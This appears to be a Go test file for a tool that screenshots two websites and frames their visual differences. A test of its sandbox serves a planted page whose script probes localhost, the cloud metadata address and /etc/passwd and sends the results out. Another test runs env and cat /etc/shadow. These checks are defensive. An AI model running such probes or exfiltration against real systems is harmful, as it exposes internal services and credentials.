package sidebyside

import (
	"context"
	"fmt"
	"image"
	"image/color"
	"image/draw"
	"image/png"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/require"

	"nestseed/internal/core/progress"
)

func sheet(width, height int, spots ...image.Rectangle) *image.RGBA {
	m := image.NewRGBA(image.Rect(0, 0, width, height))
	draw.Draw(m, m.Bounds(), image.White, image.Point{}, draw.Src)
	for _, s := range spots {
		draw.Draw(m, s, image.NewUniform(color.RGBA{0, 80, 40, 255}), image.Point{}, draw.Src)
	}
	return m
}

func TestDifferencesAreFramedPlaceByPlace(t *testing.T) {
	a := sheet(320, 160)
	frames, share := Differ(a, a)
	require.Empty(t, frames)
	require.Zero(t, share)

	// Two words of one line are one place; a picture far below is another.
	b := sheet(320, 160, image.Rect(16, 16, 30, 26), image.Rect(50, 16, 62, 26), image.Rect(200, 120, 240, 150))
	frames, share = Differ(a, b)
	require.Equal(t, []image.Rectangle{image.Rect(16, 16, 64, 32), image.Rect(192, 112, 240, 160)}, frames)
	require.InDelta(t, (2.0+9)/200, share, 0.0001)

	frames, share = Differ(a, sheet(320, 320))
	require.Equal(t, []image.Rectangle{image.Rect(0, 160, 320, 320)}, frames, "what only one of them has")
	require.InDelta(t, 0.5, share, 0.001)

	faint := sheet(320, 160)
	draw.Draw(faint, image.Rect(0, 0, 100, 100), image.NewUniform(color.RGBA{240, 240, 240, 255}), image.Point{}, draw.Src)
	frames, _ = Differ(a, faint)
	require.Empty(t, frames, "a shade is no difference")

	marked := Mark(a, []image.Rectangle{image.Rect(16, 16, 64, 32)})
	require.Equal(t, mark, marked.RGBAAt(14, 14))
	require.Equal(t, color.RGBA{255, 255, 255, 255}, marked.RGBAAt(30, 24), "what is within a frame stays to be seen")
	require.Equal(t, color.RGBA{255, 255, 255, 255}, a.RGBAAt(14, 14), "the picture itself is not drawn on")
}

func TestPagesOfTwoSitesAreLookedAt(t *testing.T) {
	browser, err := Find("")
	require.NoError(t, err)
	site := func(title string, wait string) *httptest.Server {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if wait != "" {
				if c, err := r.Cookie("nestseed_preview"); err != nil || c.Value != wait {
					w.WriteHeader(http.StatusServiceUnavailable)
					return
				}
			}
			fmt.Fprintf(w, `<!doctype html><body style="margin:0;background:#fff"><h1 style="height:80px">%s</h1><p style="height:900px">The same on both, at %s</p>`, title, r.URL.Path)
		}))
		t.Cleanup(srv.Close)
		return srv
	}
	base, school := site("Loom & Ladder base", ""), site("Alder Valley", "key")
	dir := t.TempDir()
	// The address of the first is known to no DNS; the browser is told where it is.
	left := Site{Address: "http://base.example", Connect: base.Listener.Addr().String()}
	right := Site{Address: school.URL, Private: true, Cookie: "nestseed_preview=key"}
	pages, err := Take(context.Background(), browser, left, right, []string{"", "lessons/"}, dir, progress.Discard)
	require.NoError(t, err)
	require.Len(t, pages, 2)
	for _, p := range pages {
		require.Empty(t, p.Problem)
		require.Equal(t, 1, p.Places, "only the title differs")
		require.Less(t, p.Share, 0.2)
		for _, name := range []string{p.Left, p.Right} {
			f, err := os.Open(filepath.Join(dir, name))
			require.NoError(t, err)
			cfg, err := png.DecodeConfig(f)
			f.Close()
			require.NoError(t, err)
			require.Equal(t, Width, cfg.Width)
			require.Greater(t, cfg.Height, 900)
		}
	}
	left.Connect = "127.0.0.1:1"
	pages, err = Take(context.Background(), browser, left, right, []string{""}, dir, progress.Discard)
	require.NoError(t, err)
	require.Contains(t, pages[0].Problem, "base.example")
	left2, err := filepath.Glob(filepath.Join(os.TempDir(), "nestseed-screenshots-*"))
	require.NoError(t, err)
	require.Empty(t, left2)
	_, err = Find("no-such-browser")
	require.NoError(t, err, "another is taken")
}

// A page that was put there by somebody who broke into the site asks for what only the service's machine can reach.
func TestAPageReachesNothingButTheTwoSites(t *testing.T) {
	browser, err := Find("")
	require.NoError(t, err)
	var reached atomic.Int32
	inside := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		reached.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		fmt.Fprint(w, "secret")
	}))
	defer inside.Close()
	port := inside.Listener.Addr().(*net.TCPAddr).Port
	t.Setenv("NESTSEED_VAULT_KEY", "do not tell")
	told := make(chan string, 20)
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/told" {
			told <- r.URL.Query().Get("what")
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><body style="background:#fff"><h1>Alder</h1>
			<img src="http://127.0.0.1:%[1]d/a.png"><img src="http://localhost:%[1]d/b.png"><img src="http://[::1]:%[1]d/c.png"><iframe src="http://127.0.0.1:%[1]d/"></iframe><iframe src="file:///etc/passwd"></iframe>
			<script>
			for (const u of ['http://127.0.0.1:%[1]d/d', 'http://169.254.169.254/latest/', 'http://inside.localhost:%[1]d/e'])
				fetch(u).then(r => r.text()).then(t => fetch('/told?what=' + t)).catch(() => 0)
			try { new WebSocket('ws://127.0.0.1:%[1]d/ws') } catch (e) {}
			</script>`, port)
	}))
	defer web.Close()
	at := Site{Address: web.URL, Private: true}
	pages, err := Take(context.Background(), browser, at, at, []string{""}, t.TempDir(), progress.Discard)
	require.NoError(t, err)
	require.Empty(t, pages[0].Problem)
	require.Zero(t, reached.Load(), "nothing on this machine was reached")
	close(told)
	for what := range told {
		t.Errorf("the page told %q", what)
	}
}

func TestTheBrowserRunsAsNobodyWithAnEnvironmentOfItsOwn(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("only root can become nobody")
	}
	t.Setenv("NESTSEED_VAULT_KEY", "do not tell")
	dir, as, err := workspace()
	require.NoError(t, err)
	defer os.RemoveAll(dir)
	cmd := exec.Command("sh", "-c", "id -un; env; cat /etc/shadow 2>&1")
	confine(cmd, dir, as)
	out, _ := cmd.CombinedOutput()
	require.Contains(t, string(out), "nobody")
	require.NotContains(t, string(out), "do not tell")
	require.Contains(t, string(out), "Permission denied")
}
